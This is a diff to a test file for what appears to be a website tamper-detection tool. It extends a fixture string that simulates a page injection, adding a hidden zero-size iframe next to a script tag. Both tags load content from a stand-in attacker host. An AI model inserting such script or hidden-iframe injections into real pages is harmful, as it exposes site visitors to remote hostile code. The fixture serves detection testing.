@@ -8,7 +8,8 @@ from pipeline_helpers import Site, make_services
 from tamperwatch.models import IncidentKind, IncidentState, Status, Target
 from tamperwatch.pipeline.check import Pipeline
 
-INJECTED = '<script src="https://evil-cdn.example/x.js"></script>'
+INJECTED = ('<script src="https://evil-cdn.example/x.js"></script>'
+            '<iframe src="https://evil-cdn.example/f" style="display:none" width="0" height="0"></iframe>')
 
 
 async def _learned(site: Site, **overrides: object):  # type: ignore[no-untyped-def]
